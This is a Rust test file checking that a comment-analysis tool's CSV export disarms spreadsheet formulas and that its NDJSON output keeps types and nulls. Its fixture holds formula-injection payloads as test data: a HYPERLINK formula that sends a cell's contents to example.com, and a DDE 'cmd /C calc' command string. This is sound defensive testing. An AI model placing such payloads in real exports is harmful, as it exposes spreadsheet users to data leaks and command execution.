//! Tables as rows: CSV, NDJSON, Parquet.

use rejoinder::analysis::Facts;
use rejoinder::comment::{Clock, Comment, Post, Precision};
use rejoinder::frames::{FactTables, Run, Table, Tables};
use rejoinder::outputs::rows::{ROW_FORMATS, RowOptions};

use super::{analyzed, at, comment, fill};

fn write(tables: &Tables, table: Table, format: &str, options: RowOptions) -> String {
    let format = ROW_FORMATS.iter().find(|f| f.name == format).unwrap();
    let mut bytes = Vec::new();
    (format.write)(tables, table, options, &mut bytes).unwrap();
    String::from_utf8(bytes).unwrap()
}

fn hostile() -> Tables {
    let texts = [
        "=HYPERLINK(\"http://example.com/?\"&A1,\"look\")",
        "plain, with \"quotes\"\nand a second line",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\u{ff1d}1+1",
    ];
    let comments = texts.iter().enumerate().map(|(i, text)| Comment {
        text: (*text).to_owned(),
        created: Some(at(90 + i as i64, Precision::Minute, Clock::Utc)),
        score: Some(-3),
        ..comment(&format!("c{i}"), "", "+ann")
    });
    let mut facts = FactTables::in_memory();
    facts.thread(analyzed("t", Post::default(), comments.collect(), &[])).unwrap();
    facts.finish(&Run::default()).unwrap()
}

fn column(csv: &str, name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let at = reader.headers().unwrap().iter().position(|header| header == name).unwrap();
    reader.records().map(|record| record.unwrap()[at].to_owned()).collect()
}

#[test]
fn csv_disarms_formulas_unless_told_not_to() {
    let tables = hostile();
    let safe = write(&tables, Table::Comments, "csv", RowOptions::default());
    let texts = column(&safe, "text");
    assert!(texts[0].starts_with("'=HYPERLINK("), "{}", texts[0]);
    assert_eq!(texts[1], "plain, with \"quotes\"\nand a second line");
    assert!(texts[2].starts_with("'@SUM"), "{}", texts[2]);
    assert!(texts[3].starts_with("'\u{ff1d}"), "{}", texts[3]);
    assert_eq!(column(&safe, "author")[0], "'+ann");
    assert_eq!(column(&safe, "score")[0], "-3", "numbers are left alone");
    assert_eq!(column(&safe, "created_at")[0], "1970-01-01T01:30:00Z");
    let raw = write(&tables, Table::Comments, "csv", RowOptions { keep_formulas: true });
    assert!(column(&raw, "text")[0].starts_with("=HYPERLINK("));
}

#[test]
fn csv_joins_lists_and_leaves_null_empty() {
    let csv = write(&fill(FactTables::in_memory()), Table::Comments, "csv", RowOptions::default());
    assert_eq!(column(&csv, "topics")[..4], ["tea", "tea; rain", "rain", ""]);
    assert_eq!(column(&csv, "parent_id")[..2], ["", "a"]);
    assert_eq!(column(&csv, "created_at")[1], "1970-01-01T00:10:00");
}

#[test]
fn ndjson_keeps_types_and_nulls() {
    let tables = fill(FactTables::in_memory());
    let text = write(&tables, Table::Comments, "ndjson", RowOptions::default());
    assert_eq!(text.lines().count(), 10);
    insta::assert_snapshot!(text.lines().nth(1).unwrap());
    for table in Table::ALL {
        let text = write(&tables, table, "ndjson", RowOptions::default());
        let frame = tables.read(table).unwrap();
        assert_eq!(text.lines().count(), frame.height());
        for line in text.lines() {
            let row: serde_json::Value = serde_json::from_str(line).unwrap();
            assert_eq!(row.as_object().unwrap().len(), frame.width());
        }
    }
    // Formulas harm nobody in JSON.
    let text = write(&hostile(), Table::Comments, "ndjson", RowOptions::default());
    let first: serde_json::Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert!(first["text"].as_str().unwrap().starts_with("=HYPERLINK("));
}

#[test]
fn an_empty_table_has_a_header_in_csv_and_nothing_in_ndjson() {
    let tables = FactTables::in_memory().finish(&Run::default()).unwrap();
    let csv = write(&tables, Table::Replies, "csv", RowOptions::default());
    assert_eq!(
        csv,
        "from_author,to_author,to_post,n_replies,n_threads,first_at,last_at,mean_confidence\n"
    );
    assert_eq!(write(&tables, Table::Replies, "ndjson", RowOptions::default()), "");
}
